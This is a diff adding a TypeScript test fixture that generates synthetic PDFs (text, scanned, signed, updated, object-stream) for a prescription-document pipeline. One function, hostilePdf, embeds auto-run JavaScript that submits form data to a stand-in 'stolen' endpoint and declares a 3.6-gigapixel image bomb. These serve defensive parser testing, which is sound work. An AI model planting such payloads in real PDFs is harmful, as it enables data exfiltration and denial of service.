@@ -1,0 +1,163 @@
+import { deflateSync } from 'node:zlib';
+
+/** The smallest real PDF: one empty page with the given title. */
+export function makePdf(title = 'Rezept'): Buffer {
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
+    `<< /Title (${title.replace(/[()\\]/g, '')}) >>`,
+  ];
+  let text = '%PDF-1.7\n';
+  const offsets = objects.map((object, index) => {
+    const offset = text.length;
+    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
+    return offset;
+  });
+  const startOfTable = text.length;
+  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
+  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}`;
+  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 4 0 R >>\nstartxref\n${startOfTable}\n%%EOF\n`;
+  return Buffer.from(text, 'latin1');
+}
+
+/** PDFs with readable text, scans, and hostile ones. */
+
+const CATALOG = 1;
+const PAGES = 2;
+const FONT = 3;
+const FIRST_FREE = 4;
+const A4 = '[0 0 595 842]';
+
+/** One page per list of lines. */
+export function textPdf(...pages: string[][]): Buffer {
+  return pdfOf(pages.map((lines) => ({ content: linesOf(lines), resources: `/Font << /F1 ${FONT} 0 R >>` })));
+}
+
+/** A page that is a picture, as a scanner makes it: there is no text to find. */
+export function scannedPdf(): Buffer {
+  const [width, height] = [60, 84];
+  const pixels = Buffer.from(
+    Array.from({ length: width * height }, (_, at) => (Math.floor(at / width) % 7 === 0 ? 60 : 245)),
+  );
+  const head = `<< /Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent 8`;
+  return pdfOf(
+    [{ content: 'q 595 0 0 842 0 0 cm /Im1 Do Q', resources: `/XObject << /Im1 ${FIRST_FREE} 0 R >>` }],
+    { objects: [stream(head, pixels)] },
+  );
+}
+
+/** Runs a script when it is opened, sends a form elsewhere, and holds an image of 3.6 gigapixels. */
+export function hostilePdf(lines: string[]): Buffer {
+  const script = "app.alert('hostile'); this.submitForm('http://127.0.0.1:9/stolen');";
+  const huge =
+    '<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8';
+  const image = FIRST_FREE;
+  return pdfOf(
+    [
+      {
+        content: `${linesOf(lines)} q 100 0 0 100 60 60 cm /Im1 Do Q`,
+        resources: `/Font << /F1 ${FONT} 0 R >> /XObject << /Im1 ${image} 0 R >>`,
+      },
+    ],
+    {
+      objects: [stream(huge, Buffer.alloc(64))],
+      catalog: `/OpenAction << /S /JavaScript /JS (${escaped(script)}) >>`,
+    },
+  );
+}
+
+interface PdfPage {
+  content: string;
+  resources: string;
+}
+
+function pdfOf(
+  pages: PdfPage[],
+  { objects = [], catalog = '' }: { objects?: string[]; catalog?: string } = {},
+): Buffer {
+  const first = FIRST_FREE + objects.length;
+  const kids = pages.map((_, index) => `${first + 2 * index} 0 R`).join(' ');
+  const bodies = [
+    `<< /Type /Catalog /Pages ${PAGES} 0 R ${catalog} >>`,
+    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
+    ...objects,
+    ...pages.flatMap(({ content, resources }, index) => [
+      `<< /Type /Page /Parent ${PAGES} 0 R /MediaBox ${A4} /Resources << ${resources} >> /Contents ${first + 2 * index + 1} 0 R >>`,
+      stream('<<', Buffer.from(content, 'latin1')),
+    ]),
+  ];
+  let text = '%PDF-1.7\n';
+  const offsets = bodies.map((body, index) => {
+    const offset = text.length;
+    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
+    return offset;
+  });
+  const startOfTable = text.length;
+  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
+  text += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${table}`;
+  text += `trailer\n<< /Size ${bodies.length + 1} /Root ${CATALOG} 0 R >>\nstartxref\n${startOfTable}\n%%EOF\n`;
+  return Buffer.from(text, 'latin1');
+}
+
+function stream(head: string, bytes: Buffer): string {
+  return `${head} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
+}
+
+function linesOf(lines: string[]): string {
+  const shown = lines.map((line) => `(${escaped(line)}) Tj T*`).join(' ');
+  return `BT /F1 12 Tf 16 TL 60 780 Td ${shown} ET`;
+}
+
+function escaped(text: string): string {
+  return text.replace(/[\\()]/g, '\\$&');
+}
+
+/** PDFs as prescribing software creates them: signed, changed after signing, with pages in object streams. */
+
+const RANGE_LENGTH = 60;
+
+/**
+ * Appends a signature dictionary that covers the whole file. The signature itself is fake: readers use only the
+ * byte range.
+ */
+export function signPdf(pdf: Buffer, options: { contents?: string } = {}): Buffer {
+  const hex = options.contents ?? '30820a1f'.repeat(200);
+  const before = `9 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached\n/ByteRange `;
+  const after = '\n>>\nendobj\ntrailer\n<< /Root 1 0 R /Size 10 >>\nstartxref\n0\n%%EOF\n';
+  const head = pdf.length + before.length + RANGE_LENGTH + '\n/Contents '.length;
+  const tail = head + hex.length + 2;
+  const range = `[0 ${head} ${tail} ${after.length}]`.padEnd(RANGE_LENGTH);
+  return Buffer.concat([pdf, Buffer.from(`${before}${range}\n/Contents <${hex}>${after}`, 'latin1')]);
+}
+
+/** An incremental update that rewrites object 4. */
+export function appendUpdate(pdf: Buffer): Buffer {
+  const update = '4 0 obj\n<< /Title (changed) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n';
+  return Buffer.concat([pdf, Buffer.from(update, 'latin1')]);
+}
+
+/** A PDF 1.5 with its pages in one deflated object stream. */
+export function pdfWithObjectStream(pages: number): Buffer {
+  const kids = Array.from({ length: pages }, (_, index) => `${index + 3} 0 R`).join(' ');
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
+    ...Array.from({ length: pages }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'),
+  ];
+  let body = '';
+  const header = objects.map((object, index) => {
+    const pair = `${index + 1} ${body.length}`;
+    body += `${object}\n`;
+    return pair;
+  });
+  const first = `${header.join(' ')}\n`;
+  const data = deflateSync(Buffer.from(first + body, 'latin1'));
+  const dictionary = `<< /Type /ObjStm /N ${objects.length} /First ${first.length} /Filter /FlateDecode /Length ${data.length} >>`;
+  return Buffer.concat([
+    Buffer.from(`%PDF-1.5\n${pages + 10} 0 obj\n${dictionary}\nstream\n`, 'latin1'),
+    data,
+    Buffer.from('\nendstream\nendobj\nstartxref\n0\n%%EOF\n', 'latin1'),
+  ]);
+}
